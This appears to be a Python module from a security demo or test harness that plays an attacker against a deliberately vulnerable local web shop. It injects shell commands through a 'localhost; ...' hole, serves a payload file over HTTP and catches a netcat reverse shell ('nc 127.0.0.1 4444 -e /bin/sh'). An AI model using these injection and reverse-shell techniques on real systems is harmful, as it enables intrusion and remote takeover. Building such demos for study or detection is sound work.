"""What the attacker can do: ask the web server, serve a file, wait for a shell to call, type into it."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

from tracetide.demo.network import listen, request
from tracetide.demo.shop import PORT, STATUS

_PATIENCE = 10
_END = "=end of answer="


@dataclass
class Shell:
    """A shell whose input and output are a connection to the attacker."""

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter

    async def type(self, line: str) -> str:
        """Type a command; what it printed."""
        self.writer.write(f"{line}\necho {_END}\n".encode())
        await self.writer.drain()
        answer = await asyncio.wait_for(self.reader.readuntil(_END.encode()), _PATIENCE)
        return answer.decode(errors="replace").removesuffix(_END).strip()


@dataclass
class Attacker:
    """Somebody on the network of the process ``victim``, with what has been won so far.

    ``payload`` is the program to be dropped. Sockets and tasks are closed by ``attacking``.
    """

    victim: int
    payload: Path
    stack: AsyncExitStack
    shell: Shell | None = None
    requests: list[asyncio.Task[str]] = field(default_factory=list)

    async def inject(self, command: str) -> str:
        """Send ``command`` through the hole in the shop; what the web page then says."""
        answer = await request(self.victim, PORT, STATUS, f"localhost; {command}\n", _PATIENCE)
        return answer.partition("\r\n\r\n")[2].strip()

    async def serve(self, port: int) -> None:
        """Offer ``payload`` to whoever asks at ``port``, by HTTP."""

        async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            await reader.readuntil(b"\r\n\r\n")
            content = self.payload.read_bytes()
            writer.write(f"HTTP/1.0 200 OK\r\nContent-Length: {len(content)}\r\n\r\n".encode() + content)
            await writer.drain()
            writer.close()

        server = await asyncio.start_server(answer, sock=listen(self.victim, port))
        self.stack.callback(server.close)

    async def catch_shell(self, port: int, command: str) -> Shell:
        """Listen at ``port``, inject ``command``, and wait until the shell that it starts calls back."""
        called: asyncio.Future[Shell] = asyncio.get_running_loop().create_future()

        def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            self.stack.callback(writer.close)
            called.set_result(Shell(reader, writer))

        server = await asyncio.start_server(answer, sock=listen(self.victim, port))
        self.stack.callback(server.close)
        # The request is answered when the shell ends; nobody waits for it.
        waiting = asyncio.create_task(self.inject(command))
        self.stack.callback(waiting.cancel)
        self.requests.append(waiting)
        self.shell = await asyncio.wait_for(called, _PATIENCE)
        return self.shell

    async def type(self, line: str) -> str:
        """Type ``line`` into the shell that called back, which is caught first if there is none yet."""
        shell = self.shell or await self.catch_shell(4444, "/usr/bin/nc 127.0.0.1 4444 -e /bin/sh")
        return await shell.type(line)


@asynccontextmanager
async def attacking(victim: int, payload: Path) -> AsyncIterator[Attacker]:
    """An attacker of the container of process ``victim``, who hangs up at the end."""
    async with AsyncExitStack() as stack:
        yield Attacker(victim, payload, stack)
